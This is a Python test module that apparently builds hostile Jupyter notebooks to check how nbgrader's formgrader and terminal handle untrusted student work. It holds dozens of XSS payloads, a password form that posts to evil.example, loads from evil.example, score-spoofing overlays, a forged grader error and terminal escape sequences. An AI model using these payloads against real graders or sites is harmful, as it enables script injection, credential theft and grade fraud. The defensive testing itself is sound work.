"""Attack the reader's browser and terminal: the TA's in formgrader, the student's own page."""

from .kit import (
    Attack,
    all_doing,
    code,
    find,
    notebook,
    raw,
    runs,
    shows,
    text,
)

_DISPLAY = "from IPython.display import *\n"


def _displays(name: str, tries: str, body: str, mime: str = "text/html", **more: object) -> Attack:
    """An attack by an output of this type, with metadata that say that it is to be trusted."""
    trusted = {mime: {"isolated": True, "unconfined": True, "alt": '"><script>1</script>'}}
    source = f"display({{{mime!r}: {body!r}}}, raw=True, metadata={trusted!r})"
    return runs(name, tries, _DISPLAY + source, **more)


_CARD = (
    '<div class="autograder-verdict" style="position:fixed;top:0;left:0;width:100%;z-index:99">'
    "<b>double</b> <b>4 / 4 points</b></div><p class='score'>103 of 100 points</p>"
)
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>'
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    "<svg><style><img src=x onerror=alert(1)></style></svg>"
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=alert(1) src>'>"
)
_LOADS = (
    '<img src="https://evil.example/x.png"><img srcset="https://evil.example/x 1x" src="data:,">'
    '<link rel="stylesheet" href="https://evil.example/x.css">'
    "<style>@import url(https://evil.example/y.css); body{background:url(//evil.example/z)}</style>"
    '<div style="background-image:url(https://evil.example/w)">x</div>'
    '<div style="background:\\75\\72\\6c(https://evil.example/v)">x</div>'
    '<video src="https://evil.example/v" poster="//evil.example/p"></video>'
    '<input type="image" src="https://evil.example/i"><body background="//evil.example/b">'
    '<svg><image href="https://evil.example/s"/><use href="//evil.example/u#x"/></svg>'
    '<table background="//evil.example/t"><tr><td>x</td></tr></table><audio autoplay src="//e/a">'
)
_FRAMES = (
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">'
    '</iframe><object data="data:text/html,<script>alert(1)</script>"></object>'
    '<embed src="javascript:alert(1)"><meta http-equiv="refresh" content="0;url=//evil.example">'
    '<base href="https://evil.example/"><portal src="//evil.example"></portal>'
)
_FORMS = (
    '<form action="https://evil.example"><input name="password"><button formaction='
    '"javascript:alert(1)">Log in again</button></form><button type="button" onclick=alert(1)>'
)
_LINKS = (
    '<a href="javascript:alert(1)">x</a><a href="  jAvA\tscript:alert(1)">x</a>'
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a>'
    '<a href="&#106;avascript&colon;alert(1)">x</a><a xlink:href="javascript:x">x</a>'
)
_HANDLERS = (
    "<img src=x onerror=alert(1)><b onmouseover=alert(1)>x</b><details ontoggle=alert(1) open>x"
    "</details><svg/onload=alert(1)><p/onclick=alert(1)>x</p><x onfocus=alert(1) tabindex=1>"
    "<marquee onstart=alert(1)>x</marquee><style onload=alert(1)></style><audio src onerror=x>"
)
_CLOBBERS = (
    '<div id="answer_why">x</div><div id="answer_why-comment"></div><img name="submission_id">'
    '<form id="document"><input id="cookie" name="base_url"></form><a id="double"></a>'
    '<div id="notebook" class="nbgrader_cell panel">x</div><input class="score" id="test_double">'
)
_OVERLAY = (
    '<div style="position:absolute;top:-900px;left:0;width:9999px;height:9999px;background:white">'
    '13 / 13</div><p style="margin-top:-500px;transform:translateY(-500px)">full marks</p>'
    "<style>.score, .pull-right { display: none } body::before { content: '13 / 13' }</style>"
)
_LATEX = (
    r"$\href{javascript:alert(1)}{x}$ $$\class{score}{\cssId{answer_why}{y}}$$ \(\style{position:"
    r"fixed;top:0}{\rule{99em}{99em}}\) $\require{html}\unicode{x}[url(//evil.example)]{60}$"
)
_MARKDOWN = r"""
[a](javascript:alert(1)) [b](<javascript:alert(1)>) [c]( &#106;avascript:alert(1) "x")
[d](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)> [e](data:text/html,<script>x</script>)
[f][g] ![h](https://evil.example/h.png) ![i][j] [k](vbscript:x) [l](\javascript:alert(1))

[g]: javascript:alert(1)
[j]: https://evil.example/j.png "x"
"""
_TITLES = """
[x](https://example.org "\\" onmouseover=alert(1) \\"") ![" onerror="alert(1)](x)
![x](y "\\"><script>alert(1)</script>") [<img src=x onerror=alert(1)>](https://example.org)

# A <script>alert(1)</script> heading " onclick=alert(1)
"""
_HEADINGS = "# answer_why\n\n# answer_why-comment\n\n## double\n\n## submission_id\n\n# notebook\n"
_ESCAPES = (
    "\x1b]0;attacked\x07\x1b[2J\x1b[1;1H\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\"
    "\x1b]52;c;ZWNobyBhdHRhY2tlZA==\x07\x9b2J\x90q\x9c\x08\x08\x7f\x1bc\r13 / 13"
)
_LIMIT = f"""
class TimeLimit(Exception):
    pass
raise TimeLimit({_ESCAPES + "<img src=x onerror=alert(1)>" + _LATEX!r})
"""
_ERROR = "<img src=x onerror=alert(1)>" + _LATEX + _ESCAPES
_WIDGET = {"model_id": "x", "version_major": 2, "version_minor": 0}


def _widgets(made) -> None:
    state = {"version_major": 2, "state": {"x": {"state": {"value": "</script><script>alert(1)"}}}}
    made.metadata.widgets = {"application/vnd.jupyter.widget-state+json": state}
    made.metadata.title = "</title><script>alert(1)</script>"
    made.metadata.language_info = {"name": "<script>", "pygments_lexer": "html"}


def _attached(made) -> None:
    cell = find(made, "answer_why")
    cell.source = "![x](attachment:x) <img src='attachment:x'> ![y](attachment:y)"
    cell.attachments = {
        "x": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
        "y": {'image/png"><script>alert(1)</script>': 'x" onerror="alert(1)'},
    }


def _tagged(made) -> None:
    find(made, "double").metadata.tags = ['"><script>alert(1)</script>', "x onclick=alert(1)"]
    made.cells[0].metadata.alt = '"><script>alert(1)</script>'


ATTACKS = (
    shows("script", "A script in a text.", "<script>alert(1)</script><SCRIPT/x>1</SCRIPT >"),
    shows("handlers", "Elements that run scripts when something happens.", _HANDLERS),
    shows("links", "Links that are scripts.", _LINKS),
    shows("markdown", "Links, pictures and definitions of Markdown that are scripts.", _MARKDOWN),
    shows("titles", "Quotation marks in titles, alternatives and headings.", _TITLES),
    shows("loads", "Pictures, styles and media from elsewhere.", _LOADS),
    shows("frames", "Frames, objects and redirections.", _FRAMES),
    shows("forms", "A form that asks for a password.", _FORMS),
    shows("mutating", "HTML that is another when it is parsed twice.", _MUTATING),
    shows("clobbers", "Elements that take the names of the page's own.", _CLOBBERS),
    shows("headings", "Headings that take the names of the page's own.", _HEADINGS),
    shows("overlay", "Styles that hide the score behind another.", _OVERLAY),
    shows("card", "A card like the grader's own.", _CARD),
    shows("latex", "Mathematics that makes links, names and styles.", _LATEX),
    shows(
        "unclosed",
        "Tags and comments that swallow what follows.",
        "<!-- x <![CDATA[ <textarea><title><xmp><plaintext><select><table><b></div></div></body>",
    ),
    Attack("raw", "Raw cells of HTML.", notebook(raw(_HANDLERS, "text/html"), raw(_LOADS, ""))),
    Attack("attached", "Attachments that are HTML.", notebook(_attached)),
    Attack("widget-state", "Widgets' state and titles in the metadata.", notebook(_widgets)),
    Attack("tags", "Tags and alternatives with quotation marks.", notebook(_tagged)),
    _displays("html-handlers", "HTML shown that runs scripts.", _HANDLERS + _LINKS),
    _displays("html-loads", "HTML shown that loads from elsewhere.", _LOADS + _FRAMES),
    _displays("html-mutating", "HTML shown that is another when parsed twice.", _MUTATING),
    _displays("html-overlay", "HTML shown that hides the score.", _OVERLAY + _FORMS),
    _displays("html-clobbers", "HTML shown that takes the page's own names.", _CLOBBERS),
    _displays("html-card", "A card like the grader's own is shown.", _CARD),
    _displays("html-latex", "HTML shown with mathematics in it.", f"<p>{_LATEX}</p>"),
    _displays("markdown-shown", "Markdown shown.", _MARKDOWN + _HANDLERS, "text/markdown"),
    _displays("latex-shown", "LaTeX shown, with HTML in it.", _LATEX + _HANDLERS, "text/latex"),
    _displays(
        "svg",
        "A drawing with a script.",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script>"
        f"<foreignObject>{_LOADS}</foreignObject></svg>",
        "image/svg+xml",
    ),
    _displays("javascript", "A script shown.", "alert(1)", "application/javascript"),
    _displays(
        "mermaid",
        "A diagram with a script.",
        'graph TD\nclick A "javascript:alert(1)"',
        "text/vnd.mermaid",
    ),
    _displays("png", "A picture that is HTML.", 'x"><script>alert(1)</script>', "image/png"),
    _displays("jpeg", "A picture that is a script.", 'PHNjcmlwdD4=" onload=x', "image/jpeg"),
    runs(
        "widget",
        "A widget shown.",
        _DISPLAY + f"display({{'application/vnd.jupyter.widget-view"
        f"+json': {_WIDGET!r}, 'text/plain': '<script>'}}, raw=True)",
    ),
    runs(
        "odd-mimes",
        "Types that no page knows, and names with quotation marks.",
        _DISPLAY + "display({'text/x\"><script>alert(1)</script>': 'x', 'application/pdf': 'JVBE', "
        "'application/vnd.plotly.v1+json': {'a': 1}, 'application/geo+json': '{}'}, raw=True)",
    ),
    runs("printed", "Prints HTML and escapes.", f"print({(_ESCAPES + _HANDLERS)!r})"),
    runs(
        "error",
        "An error whose name and message are HTML, LaTeX and escapes.",
        f"raise type({_ERROR!r}, (Exception,), {{}})({_ERROR!r})",
    ),
    runs("forged-limit", "An error that looks like the grader's own.", _LIMIT),
    Attack(
        "answer-error",
        "An answer's error is HTML, LaTeX and escapes, and so is its line.",
        notebook(answers=all_doing(f"raise type('E', (Exception,), {{}})({_ERROR!r})")),
    ),
    Attack(
        "answer-name",
        "The name of what is returned is HTML.",
        notebook(answers=all_doing(f"return type({_HANDLERS!r}, (), {{}})()")),
    ),
    Attack(
        "code",
        "Code that is HTML.",
        notebook(
            code(f"'''</pre></div>{_HANDLERS}{_FRAMES}'''"),
            code(f"# </textarea>{_LOADS}"),
            answers=all_doing(f"'</code></pre>{_CARD}'\n    # {_LATEX}"),
        ),
    ),
    Attack(
        "visible-check",
        "HTML is shown from within a visible check.",
        notebook(
            answers=all_doing(f"display(__import__('IPython').display.HTML({_CARD + _HANDLERS!r}))")
        ),
    ),
    Attack(
        "page-title",
        "A text as large as the page.",
        notebook(text("# " + "x" * 100_000), text("\u202e" * 1000 + "13 / 13")),
    ),
)
